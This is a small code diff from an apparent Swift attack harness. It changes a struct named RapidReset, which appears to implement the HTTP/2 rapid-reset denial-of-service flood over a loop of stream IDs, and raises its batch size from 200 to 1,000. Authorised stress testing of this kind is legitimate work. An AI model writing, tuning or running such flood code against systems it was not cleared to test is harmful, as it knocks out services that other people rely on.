@@ -29,7 +29,7 @@ struct RapidReset: Attack {
 
     private func reset(_ connection: RawConnection, _ count: Shared<Int>) async throws {
         let call = HeaderBlock(callOf: Method.deltaEndpoints.path, isTLS: isTLS).bytes
-        let batch = 200
+        let batch = 1_000
         var stream: UInt32 = 1
         while !Task.isCancelled, stream < 0x7fff_0000 {
             var bytes = ByteBuffer()
